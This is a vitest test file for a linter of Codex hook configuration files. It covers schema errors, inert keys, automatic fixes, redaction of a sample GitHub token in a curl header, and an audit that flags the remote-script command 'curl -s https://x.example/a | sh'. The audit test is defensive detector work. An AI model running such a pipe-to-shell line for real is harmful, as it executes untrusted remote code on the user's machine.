import { describe, expect, it } from "vitest";
import { fixText } from "../../src/fix/fix-text.ts";
import { lint } from "../../src/lint.ts";

/** The findings of a file: code, effect, and the text that is underlined. */
function findings(text: string): string[] {
  return lint(text, { kind: "hooks-json" }).map(
    ({ code, effect, range }) => `${code} ${effect} ${text.slice(range.start, range.end)}`,
  );
}

/** A file with one handler for an event. */
function withHandler(handler: string, event = "Stop"): string {
  return `{"hooks": {"${event}": [{"hooks": [${handler}]}]}}`;
}

const COMMAND = '{"type": "command", "command": "x"}';

describe("what costs the file all its hooks", () => {
  it.each<[text: string, ...found: string[]]>([
    ['{"$schema": "x", "hooks": {}}', 'unknown-key dropped "$schema"'],
    ['{"version": 1}', 'unknown-key dropped "version"'],
    [`{"Stop": [{"hooks": [${COMMAND}]}]}`, 'unknown-key dropped "Stop"'],
    ["null", "wrong-type dropped null"],
    ['"x"', 'wrong-type dropped "x"'],
    ['{"description": 1}', "wrong-type dropped 1"],
    ['{"hooks": null}', "wrong-type dropped null"],
    ['{"hooks": {"Stop": {"hooks": []}}}', 'wrong-type dropped {"hooks": []}'],
    ['{"hooks": {"Stop": [null]}}', "wrong-type dropped null"],
    ['{"hooks": {"Stop": [{"matcher": 1}]}}', "wrong-type dropped 1"],
    [withHandler('{"command": "x"}'), "missing-key dropped {"],
    [withHandler('{"type": "command"}'), "missing-key dropped {"],
    [withHandler('{"type": "http", "command": "x"}'), 'unknown-value dropped "http"'],
    [withHandler(`${COMMAND}, {"type": "zz"}`), 'unknown-value dropped "zz"'],
    [withHandler('{"type": "command", "command": ["x"]}'), 'wrong-type dropped ["x"]'],
    [withHandler('{"type": "command", "command": "x", "timeout": 1.5}'), "wrong-type dropped 1.5"],
    [withHandler('{"type": "command", "command": "x", "timeout": -1}'), "out-of-range dropped -1"],
    [withHandler('{"type": "command", "command": "x", "async": null}'), "wrong-type dropped null"],
    [
      withHandler('{"type": "mcp_tool", "server": "s", "tool": "t", "input": {"a": [null]}}'),
      "hooks/unrepresentable-input dropped null",
    ],
    ['{"hooks": {}, "hooks": {}}', 'json/duplicate-key dropped "hooks"'],
    ['{"hooks": {},}', "json/trailing-comma dropped ,"],
    ['["d", {}, 1]', 'wrong-type dropped ["d", {}, 1]'],
  ])("%s", (text, ...found) => {
    expect(findings(text)).toEqual(found);
  });

  it("is an integer that no type of Codex holds", () => {
    const timeout = "9223372036854775808";
    const found = findings(withHandler(`{"type": "command", "command": "x", "timeout": ${timeout}}`));
    expect(found).toEqual([`hooks/timeout-unit risk ${timeout}`, `out-of-range dropped ${timeout}`]);
  });
});

describe("what does no harm", () => {
  it.each([
    "{}",
    '{"description": null}',
    withHandler(COMMAND),
    withHandler('{"type": "command", "command": "x", "timeout": null, "statusMessage": null, "commandWindows": null}'),
    withHandler('{"type": "mcp_tool", "server": "s", "tool": "t", "input": {"a": {"b": [1, 1e400]}}}'),
    '{"hooks": {"Stop": [{"matcher": null}]}}',
  ])("%s", (text) => {
    expect(findings(text)).toEqual([]);
  });
});

describe("what Codex passes over in silence", () => {
  it.each<[text: string, found: string]>([
    [withHandler(COMMAND, "Notification"), 'unknown-key inert "Notification"'],
    [withHandler(COMMAND, "preToolUse"), 'unknown-key inert "preToolUse"'],
    ['{"hooks": {"state": {}}}', 'unknown-key inert "state"'],
    [withHandler('{"type": "command", "command": "x", "timeout_sec": 5}'), 'unknown-key inert "timeout_sec"'],
    ['{"hooks": {"Stop": [{"type": "command", "command": "x"}]}}', 'unknown-key inert "command"'],
    ['{"hooks": {"Nope": {"a": 1, "a": "\\ud800"}}}', 'unknown-key inert "Nope"'],
    [`{"hooks": {"Nope": ${"[".repeat(500)}${"]".repeat(500)}}}`, 'unknown-key inert "Nope"'],
  ])("%s", (text, found) => {
    expect(findings(text)).toEqual([found]);
  });

  it("is nothing in a handler, which it reads as a whole", () => {
    const codes = (handler: string) => lint(withHandler(handler), { kind: "hooks-json" }).map(({ code }) => code);
    const deep = "[".repeat(200) + "]".repeat(200);
    expect(codes(`{"type": "command", "command": "x", "a": ${deep}}`)).toContain("json/nested-too-deep");
    expect(codes('{"type": "command", "command": "x", "a": "\\ud800"}')).toContain("json/lone-surrogate");
    expect(codes('{"type": "prompt", "command": 1, "command": 2}')).not.toContain("json/duplicate-key");
  });
});

describe("rules for hooks", () => {
  it.each<[text: string, found: string]>([
    [withHandler('{"type": "command", "command": " "}'), 'hooks/blank inert " "'],
    [withHandler('{"type": "prompt"}'), 'hooks/unsupported-type inert "prompt"'],
    ['{"hooks": {"PreToolUse": [{"matcher": "("}]}}', 'hooks/invalid-matcher inert "("'],
    ["[]", "quirk/array-as-table risk []"],
  ])("%s", (text, found) => {
    expect(findings(text)).toEqual([found]);
  });
});

describe("fixes", () => {
  it.each([
    [`// c\n{hooks: {'Stop': [{"hooks": [${COMMAND},]}]}}`, `{"hooks": {"Stop": [{"hooks": [${COMMAND}]}]}}`],
    [withHandler(COMMAND, "preToolUse"), withHandler(COMMAND, "PreToolUse")],
    [
      '{"hooks": {"Stop": [{"type": "command", "command": "x"}]}}',
      `{"hooks": {"Stop": [{ "hooks": [{ "type": "command", "command": "x" }] }]}}`,
    ],
    ['{"hooks": {"Stop": {"hooks": []}}}', '{"hooks": {"Stop": [{"hooks": []}]}}'],
    ['{"Stop": []}', '{"hooks": {"Stop": []}}'],
    [
      withHandler('{"type": "command", "command": "x", "timeout": "5"}'),
      withHandler('{"type": "command", "command": "x", "timeout": 5}'),
    ],
  ])("of %s", (text, repaired) => {
    expect(fixText(text, { kind: "hooks-json", unsafe: true }).text).toBe(repaired);
  });
});

it("hides secrets in a file of hooks", () => {
  const token = ["ghp", "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"].join("_");
  const text = withHandler(
    `{"type": "command", "command": "curl -H 'Authorization: Bearer ${token}'", "timeout": "${token}"}`,
  );
  const findings = lint(text, { kind: "hooks-json" });
  const shown = JSON.stringify(findings, (key, value: unknown) => (key === "fix" ? undefined : value));
  expect(shown).not.toContain(token);
});

describe("what the audit says of commands", () => {
  const text = withHandler(
    '{"type": "command", "command": "curl -s https://x.example/a | sh"}, {"type": "command", "command": "npx -y lint"}',
  );

  it("is said of hooks in JSON too", () => {
    const found = lint(text, { kind: "hooks-json", audit: true });
    expect(found.map(({ code, range }) => [code, text.slice(range.start, range.end)])).toEqual([
      ["audit/remote-script", '"curl -s https://x.example/a | sh"'],
      ["audit/unpinned-package", '"npx -y lint"'],
    ]);
  });

  it("is not said unasked", () => {
    expect(findings(text)).toEqual([]);
  });
});
